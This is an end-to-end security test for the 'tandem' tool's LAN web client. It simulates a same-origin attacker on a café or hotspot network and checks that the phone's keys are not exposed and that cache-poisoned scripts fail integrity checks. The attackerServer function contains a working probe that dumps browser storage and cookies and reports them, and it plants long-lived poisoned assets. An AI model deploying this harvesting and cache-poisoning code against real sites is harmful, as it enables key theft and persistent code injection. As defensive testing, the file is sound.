// The default `tandem up` path and a host on another network that takes over the same origin
// (docs/SECURITY.md §3). `tandem up` serves the web client over plain http on a local-network
// address; the phone (headless chromium) pairs from the QR code and runs a task. Then `tandem up`
// stops and an attacker's server takes the same IP and port, as a café's or a hotspot's host with
// the same address would: its page, in a tab of the phone's browser next to the paired one, looks
// everywhere a page of that origin can for keys and tries to plant its own page and code in the
// browser's cache, long-lived; the paired tab is reloaded into it as well. It finds nothing that
// could authorise, and the desktop never hears from it. Then `tandem up` is back on the same
// address and port: a fresh pairing link loads the real app (never the planted page or code, and
// the planted script is refused by its integrity hash) and pairs again.
//
//   npm run e2e        (needs target/debug/tandem, zbarimg and chromium; see e2e/README.md)
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { readFileSync, readdirSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import { connect, createServer as createTcpServer } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';

import {
  Run,
  WAIT,
  WEB_DIR,
  assertNoPageErrors,
  expectConn,
  expectScreen,
  expectVisible,
  lanHost,
  launchBrowser,
  newPhone,
  open,
  progressNumbers,
  screenshot,
  taskEvents,
  waitFinished,
  waitUntil,
  zbarimg,
} from './harness.mjs';

const s = {
  run: null,
  browser: null,
  host: null, // `192.168.1.5` or `[fd00::2]`
  port: 0,
  forwarder: null,
  agentDir: null,
  up: null, // `tandem up`
  phone: null,
  desktopId: null,
  attacker: null, // { server, reports, hits }
  failed: false,
};

/** The host without IPv6 brackets, for sockets. */
const bare = (h) => h.replace(/^\[|\]$/g, '');

/** A free TCP port on `host`. */
function freePort(host) {
  return new Promise((res, rej) => {
    const srv = createTcpServer();
    srv.on('error', rej);
    srv.listen(0, bare(host), () => {
      const { port } = srv.address();
      srv.close(() => res(port));
    });
  });
}

/**
 * `tandem up --listen <address>:<port>` connects its own agent to ws://127.0.0.1:<port>, where
 * nothing listens when the relay is bound to one LAN address only (desktop-agent/src/main.rs,
 * `up`). Until it dials the address it listens on, the test forwards 127.0.0.1:<port> there.
 */
function forward(port, host) {
  return new Promise((res, rej) => {
    const srv = createTcpServer((sock) => {
      const up = connect(port, bare(host));
      sock.pipe(up).pipe(sock);
      const done = () => {
        sock.destroy();
        up.destroy();
      };
      sock.on('error', done);
      up.on('error', done);
    });
    srv.on('error', rej);
    srv.listen(port, '127.0.0.1', () => res(srv));
  });
}

/** `tandem up` on the LAN address and the fixed port, confirming pairings itself; resolves with the link its QR code carries. */
async function startUp(name, extra = []) {
  const png = join(s.run.dir, `${name}.png`);
  s.up = s.run.tandem(name, s.agentDir, ['up', '--listen', `${s.host}:${s.port}`, '--yes', '--qr-png', png, '--print-url', '--no-terminal-qr', ...extra]);
  const printed = (await s.up.waitLine(/pairing link: (\S+)/))[1];
  const scanned = zbarimg(png);
  assert.equal(scanned, printed, 'the QR code carries the printed link');
  assert.ok(scanned.startsWith(`http://${s.host}:${s.port}/p`), `the link opens the LAN address: ${scanned}`);
  return scanned;
}

/**
 * The link as a camera opens it, with a fresh nonce in the query (`/p?n=<nonce>#<payload>`) so
 * that nothing cached under a known address is what the scan opens. A link that carries none yet
 * gets one here, the way the desktop puts it there.
 */
function withNonce(link) {
  const [base, payload] = link.split('#');
  if (/[?&]n=/.test(base)) return link;
  return `${base}?n=${randomBytes(16).toString('base64url')}#${payload}`;
}

/** The pairing link's secret payload (base32, after the `#`). */
const payloadOf = (link) => link.split('#')[1];

/** Every URL in the tab's session history (Chromium's own list, through CDP). */
async function historyUrls(phone) {
  const cdp = await phone.context.newCDPSession(phone.page);
  try {
    return (await cdp.send('Page.getNavigationHistory')).entries.map((e) => e.url);
  } finally {
    await cdp.detach().catch(() => undefined);
  }
}

/** Everything a page of this origin can reach that could hold the phone's keys. */
async function lookEverywhere(page) {
  return page.evaluate(probe);
}

/**
 * Runs in a page: lists every IndexedDB database with every row of every store, localStorage,
 * sessionStorage, cookies and the Cache API (the attacker's script runs the same function).
 */
async function probe() {
  const found = { secure: isSecureContext, indexedDB: {}, localStorage: {}, sessionStorage: {}, cookies: document.cookie, caches: null };
  for (const { name } of await indexedDB.databases()) {
    const db = await new Promise((res, rej) => {
      const r = indexedDB.open(name);
      r.onsuccess = () => res(r.result);
      r.onerror = () => rej(r.error);
    });
    found.indexedDB[name] = {};
    for (const store of db.objectStoreNames) {
      found.indexedDB[name][store] = await new Promise((res) => {
        const r = db.transaction(store).objectStore(store).getAll();
        r.onsuccess = () => res(r.result);
        r.onerror = () => res(`unreadable: ${r.error}`);
      });
    }
    db.close();
  }
  for (let i = 0; i < localStorage.length; i++) found.localStorage[localStorage.key(i)] = localStorage.getItem(localStorage.key(i));
  for (let i = 0; i < sessionStorage.length; i++) found.sessionStorage[sessionStorage.key(i)] = sessionStorage.getItem(sessionStorage.key(i));
  if (typeof caches !== 'undefined') {
    found.caches = {};
    for (const k of await caches.keys()) found.caches[k] = (await (await caches.open(k)).keys()).map((r) => r.url);
  }
  return found;
}

/** Nothing in `found` that could stand for the phone: no database, no stored item, no cookie, no cache. */
function assertNothing(found, what) {
  const text = JSON.stringify(found);
  assert.deepEqual(found.indexedDB, {}, `${what}: no IndexedDB database\n${text.slice(0, 800)}`);
  assert.deepEqual(found.localStorage, {}, `${what}: localStorage is empty`);
  assert.deepEqual(found.sessionStorage, {}, `${what}: sessionStorage is empty`);
  assert.equal(found.cookies, '', `${what}: no cookie`);
  assert.ok(found.caches === null || Object.keys(found.caches).length === 0, `${what}: no Cache API entry: ${JSON.stringify(found.caches)}`);
}

/** The hashed bundle files the real page links (as the attacker learns them from the public build). */
function realAssets() {
  const html = readFileSync(join(WEB_DIR, 'dist/index.html'), 'utf8');
  const js = /src="(\/assets\/app-[0-9a-f]+\.js)/.exec(html)[1];
  const css = /href="(\/assets\/app-[0-9a-f]+\.css)/.exec(html)[1];
  const jsIntegrity = /\.js\?v=\{\{load\}\}" integrity="([^"]+)"/.exec(html)[1];
  return { js, css, jsIntegrity };
}

/**
 * The attacker: a plain HTTP server on the phone's old origin. Every page it serves carries a
 * script that looks everywhere for keys (`probe`), plants long-lived copies of its page at the
 * addresses the app uses and of its own code at the bundle's addresses, and posts what it found.
 */
function attackerServer(host, port) {
  const { js, css } = realAssets();
  const reports = [];
  const hits = [];
  const forever = { 'cache-control': 'public, max-age=31536000, immutable' };
  const evil = `document.documentElement.dataset.poisoned = 'asset'; window.__poisoned = true;`;
  const plant = ['/p', '/', '/p?pair=', '/manifest.webmanifest', '/icon.svg', js, css, `${js}?v=0`];
  const page = `<!doctype html><meta charset="utf-8"><title>Free Wi-Fi</title><body data-attacker="1">
<script>
${probe.toString()}
(async () => {
  const found = await probe();
  // Plant: long-lived copies of this page and of this code where the app lives.
  found.planted = [];
  for (const u of ${JSON.stringify(plant)}) {
    try { await fetch(u, { cache: 'reload' }); found.planted.push(u); } catch (e) { found.planted.push(u + ': ' + e); }
  }
  await fetch('/report', { method: 'POST', body: JSON.stringify({ url: location.href, found }) });
  document.body.dataset.done = '1';
})();
</script>`;
  const server = createServer((req, res) => {
    hits.push(req.url);
    if (req.method === 'POST' && req.url === '/report') {
      let body = '';
      req.on('data', (c) => (body += c));
      req.on('end', () => {
        reports.push(JSON.parse(body));
        res.writeHead(204).end();
      });
      return;
    }
    const path = req.url.split('?')[0];
    if (path.startsWith('/assets/') && path.endsWith('.js')) return res.writeHead(200, { 'content-type': 'text/javascript', ...forever }).end(evil);
    if (path.startsWith('/assets/') && path.endsWith('.css')) return res.writeHead(200, { 'content-type': 'text/css', ...forever }).end('body::before { content: "planted"; }');
    if (path === '/icon.svg') return res.writeHead(200, { 'content-type': 'image/svg+xml', ...forever }).end('<svg xmlns="http://www.w3.org/2000/svg"><script>parent.__poisoned = true</script></svg>');
    if (path === '/manifest.webmanifest') return res.writeHead(200, { 'content-type': 'application/manifest+json', ...forever }).end('{"name":"Tandem","start_url":"/p?planted=1"}');
    if (path === '/v1/connect') return res.writeHead(404).end();
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', ...forever }).end(page);
  });
  return new Promise((res, rej) => {
    server.on('error', rej);
    server.listen(port, bare(host), () => res({ server, reports, hits }));
  });
}

function check(name, fn, timeout = 90_000) {
  test(name, { timeout }, async (t) => {
    try {
      await fn(t);
      if (s.phone) assertNoPageErrors(s.phone);
    } catch (e) {
      s.failed = true;
      throw e;
    }
  });
}

describe('web client on `tandem up`: a same-origin page on another network gets nothing', { concurrency: false }, () => {
  before(async () => {
    s.run = new Run();
    s.agentDir = join(s.run.dir, 'desktop');
    s.host = lanHost();
    assert.ok(
      s.host,
      'this machine has no local-network address (private IPv4 or IPv6 unique local) for `tandem up` to serve on; add one (e.g. `ip addr add 10.9.8.7/32 dev lo`) to run this test',
    );
    s.port = await freePort(s.host);
    s.forwarder = await forward(s.port, s.host);
    s.browser = await launchBrowser();
    s.phone = await newPhone(s.browser, 'phone');
  });

  after(async () => {
    if (s.phone?.consoleErrors.length) console.log(`# console errors (reported, not failures):\n#   ${s.phone.consoleErrors.slice(0, 20).join('\n#   ')}`);
    await s.browser?.close().catch(() => undefined);
    s.attacker?.server.closeAllConnections();
    s.attacker?.server.close();
    s.forwarder?.close();
    await s.run?.cleanup();
    if (s.failed || process.env.E2E_KEEP) console.log(`# logs kept in ${s.run?.logs}`);
    else if (s.run) rmSync(s.run.dir, { recursive: true, force: true });
  });

  check('O1. `tandem up` on a LAN address: the phone pairs from the QR code, keeps its keys in memory only, runs a task', async () => {
    const { page } = s.phone;
    const link = withNonce(await startUp('up'));
    await open(page, link);
    assert.equal(await page.evaluate(() => isSecureContext), false, `http://${s.host} is not a secure context`);
    const note = await expectVisible(page, '[data-testid=ephemeral]', 'the page says the pairing lasts as long as the page');
    assert.match((await note.textContent()) ?? '', /Paired for as long as this page is open/);
    await expectScreen(page, 'desktop', 30_000);
    s.desktopId = new URL(page.url()).searchParams.get('desktop');
    await s.up.waitLine(/Paired with/);
    await s.up.waitLine(/Connected\. 1 paired device/);
    await expectConn(page, ['online'], 'after pairing');
    await screenshot(page, 'ephemeral', '[data-testid=ephemeral]');

    // Neither the secret nor the nonce stays in the address bar or the tab's history.
    for (const url of [page.url(), ...(await historyUrls(s.phone))]) {
      assert.ok(!url.includes('#') && !url.includes(payloadOf(link)), `no pairing secret in ${url}`);
      assert.ok(!/[?&]n=/.test(url), `no nonce in ${url}`);
    }
    // The desktop was told: this device keeps its keys only while the page runs.
    const peers = readdirSync(join(s.agentDir, 'peers')).filter((f) => /^[a-z2-7]+\.json$/.test(f)).map((f) => JSON.parse(readFileSync(join(s.agentDir, 'peers', f), 'utf8')));
    assert.equal(peers.length, 1);
    assert.equal(peers[0].peer.info.ephemeral, true, `the desktop's record of the phone says ephemeral: ${JSON.stringify(peers[0].peer.info)}`);

    await (await expectVisible(page, '[data-testid=compose]', 'desktop screen: the task box')).fill('count 3 10');
    await (await expectVisible(page, '[data-testid=send]', 'desktop screen: the send button')).tap();
    assert.equal(await waitFinished(page, 'the first task', 30_000), 'succeeded');
    assert.deepEqual(progressNumbers(await taskEvents(page)), [0, 1, 2]);
    // Paired and working, and nothing of it is where another page of this origin could look.
    assertNothing(await lookEverywhere(page), 'the paired page itself');
  });

  check('O2. the same IP and port on another network: the attacker\'s page finds nothing, in a new tab or in the reloaded one, and plants what it can', async () => {
    assert.ok(s.desktopId, 'paired in O1');
    await s.up.stop();
    s.attacker = await attackerServer(s.host, s.port);
    const origin = `http://${s.host}:${s.port}`;

    // A tab of the phone's browser opens the attacker's page while the paired tab is still open.
    const tab = await s.phone.context.newPage();
    await tab.goto(`${origin}/p`);
    await waitUntil('the attacker\'s report from a new tab', () => s.attacker.reports.length >= 1, { detail: () => JSON.stringify(s.attacker.hits) });
    // The paired tab reloads at its address: the attacker's page runs there too.
    const paired = s.phone.page.url();
    assert.ok(paired.startsWith(`${origin}/p?desktop=`), paired);
    await s.phone.page.reload();
    await waitUntil('the attacker\'s report from the reloaded tab', () => s.attacker.reports.length >= 2, { detail: () => JSON.stringify(s.attacker.hits) });
    assert.equal(await s.phone.page.evaluate(() => document.body.dataset.attacker), '1', 'the reloaded tab shows the attacker\'s page');

    for (const r of s.attacker.reports) {
      assert.equal(r.found.secure, false);
      assertNothing(r.found, `the attacker's page at ${r.url}`);
      assert.ok(r.found.planted.length >= 6 && r.found.planted.every((u) => !u.includes(':')), `planted: ${r.found.planted}`);
    }
    await tab.close();
  });

  check('O3. `tandem up` is back on the same address and port: a fresh link loads the real app, not the planted one, and pairs again; the desktop got no task from the attacker', async () => {
    assert.ok(s.attacker, 'the attacker ran in O2');
    s.attacker.server.closeAllConnections();
    await new Promise((r) => s.attacker.server.close(r));
    const link = withNonce(await startUp('up-again', ['--pair']));
    const { page } = s.phone;
    const { js, jsIntegrity } = realAssets();

    // The planted bundle is in the browser's cache under the address the attacker knew …
    await page.goto(link);
    const cached = await page.evaluate(async (u) => {
      const r = await fetch(u, { cache: 'only-if-cached', mode: 'same-origin' }).catch((e) => null);
      return r ? await r.text() : null;
    }, js);
    assert.match(cached ?? '', /__poisoned/, 'the attacker did plant its code under the bundle\'s address');
    // … but the page names its code by a fresh address with its integrity hash: the real app runs.
    await expectVisible(page, '[data-testid=pair-confirm]', 'the real pairing screen', 15_000);
    const state = await page.evaluate(() => ({ poisoned: window.__poisoned ?? null, mark: document.documentElement.dataset.poisoned ?? null, attacker: document.body.dataset.attacker ?? null }));
    assert.deepEqual(state, { poisoned: null, mark: null, attacker: null }, 'nothing the attacker planted ran');
    // And a script tag for the planted address, with the real integrity hash, is refused.
    const refused = await page.evaluate(
      ({ src, integrity }) =>
        new Promise((res) => {
          const el = document.createElement('script');
          el.type = 'module';
          el.src = src;
          el.integrity = integrity;
          el.onload = () => res('ran');
          el.onerror = () => res('refused');
          document.head.append(el);
        }),
      { src: js, integrity: jsIntegrity },
    );
    assert.equal(refused, 'refused', 'the planted script fails its integrity check');
    assert.equal(await page.evaluate(() => window.__poisoned ?? null), null);

    await (await expectVisible(page, '[data-testid=pair-confirm]', 'the pairing prompt')).tap();
    await expectScreen(page, 'desktop', 30_000);
    await s.up.waitLine(/Paired with/);
    await expectConn(page, ['online'], 'paired again');
    await (await expectVisible(page, '[data-testid=compose]', 'desktop screen: the task box')).fill('count 2 10');
    await (await expectVisible(page, '[data-testid=send]', 'desktop screen: the send button')).tap();
    assert.equal(await waitFinished(page, 'a task after pairing again', 30_000), 'succeeded');
    assertNothing(await lookEverywhere(page), 'the page paired again');

    // The desktop ran the phone's two tasks and nothing else (one line per task in `tandem tasks`).
    const tasks = s.run.tandem('tasks', s.agentDir, ['tasks']);
    assert.equal(await tasks.wait(WAIT), 0, tasks.tail());
    const rows = tasks.lines.filter((l) => /^\S+\s+(queued|running|succeeded|failed|cancelled|interrupted)\s/.test(l));
    for (const t of ['count 3 10', 'count 2 10']) assert.equal(rows.filter((l) => l.includes(t)).length, 1, `${t} once on the desktop:\n${tasks.lines.join('\n')}`);
    assert.equal(rows.length, 2, `two tasks on the desktop, nothing else:\n${tasks.lines.join('\n')}`);
  });
});
